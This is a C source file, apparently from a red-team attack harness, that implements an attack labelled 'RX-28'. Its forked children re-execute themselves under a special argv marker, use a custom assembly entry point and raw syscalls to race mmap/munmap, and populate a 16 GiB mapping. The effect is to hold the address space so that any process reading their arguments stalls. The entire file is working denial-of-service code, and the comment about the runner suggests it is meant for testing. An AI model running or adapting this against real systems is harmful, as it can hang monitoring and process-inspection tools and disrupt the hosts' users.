/* SPDX-License-Identifier: Apache-2.0 */
/*
 * Whoever reads the arguments of a process waits for its address space. A program that is executed for that begins to fill page tables before anything of the C library has begun: one
 * thread has the address space to read, another one waits to change it, and so does everybody behind.
 */
#include "redcell.h"

#include <sched.h>
#include <signal.h>
#include <stdlib.h>
#include <sys/mman.h>
#include <sys/wait.h>

#define MARK          "!" /* how such a program is called */
#define POPULATE_READ 22  /* MADV_POPULATE_READ */
#define RANGE         (16UL << 30)
#define CHILDREN      8
#define BEGIN_S       2 /* so that the runner can stop the server before */

#ifdef __x86_64__

static char room[4096] __attribute__((aligned(16)));

/* No errno: there is nobody who has made a place for it. */
static long call(long nr, long a, long b, long c, long d, long e)
{
	register long r10 __asm__("r10") = d, r8 __asm__("r8") = e, r9 __asm__("r9") = 0;
	long rc;

	__asm__ volatile("syscall"
			 : "=a"(rc)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"(r10), "r"(r8), "r"(r9)
			 : "rcx", "r11", "memory");
	return rc;
}

__attribute__((noreturn, used)) static void change(void)
{
	for (;;) {
		const long at = call(SYS_mmap, 0, 4096, PROT_NONE, MAP_PRIVATE | MAP_ANONYMOUS, -1);

		(void)call(SYS_munmap, at, 4096, 0, 0, 0);
	}
}

__attribute__((noreturn, used)) static void stall(void)
{
	const long flags =
		CLONE_VM | CLONE_FS | CLONE_FILES | CLONE_SIGHAND | CLONE_THREAD | CLONE_SYSVSEM;
	register long tid __asm__("r10") = 0, tls __asm__("r8") = 0;
	long rc, at;

	__asm__ volatile("syscall\n\ttest %%rax, %%rax\n\tjnz 1f\n\tcall change\n1:"
			 : "=a"(rc)
			 : "a"((long)SYS_clone), "D"(flags), "S"(room + sizeof(room) - 16), "d"(0L),
			 "r"(tid), "r"(tls)
			 : "rcx", "r11", "memory");
	at = call(SYS_mmap, 0, RANGE, PROT_READ, MAP_PRIVATE | MAP_ANONYMOUS | MAP_NORESERVE, -1);
	(void)call(SYS_madvise, at, RANGE, MADV_NOHUGEPAGE, 0, 0);
	(void)call(SYS_madvise, at, RANGE, POPULATE_READ, 0, 0);
	for (;;)
		(void)call(SYS_exit_group, 0, 0, 0, 0, 0);
}

/* Where the program begins (meson.build). */
__asm__(".globl redcell_entry\n"
	"redcell_entry:\n\t"
	"mov 8(%rsp), %rax\n\t"
	"test %rax, %rax\n\t"
	"jz 1f\n\t"
	"cmpb $'!', (%rax)\n\t"
	"jne 1f\n\t"
	"and $-16, %rsp\n\t"
	"call stall\n"
	"1:\tjmp _start\n");

#endif

static void go_on(void)
{
	(void)sleep(BEGIN_S);
	for (;;) {
		const pid_t pid = vfork();

		if (pid == 0) {
			(void)execl("/proc/self/exe", MARK, (char *)NULL);
			_exit(1);
		}
		if (pid < 0 || waitpid(pid, NULL, 0) < 0)
			_exit(0);
	}
}

static void rx_28(struct run *r)
{
	for (int i = 0; i < CHILDREN; i++) {
		r->attempts++;
		if (fork() == 0)
			go_on();
	}
}

const struct attack attacks_stall[] = {
	{ "RX-28", "keeps its address space from whoever reads its arguments", rx_28 },
	{ NULL, NULL, NULL },
};
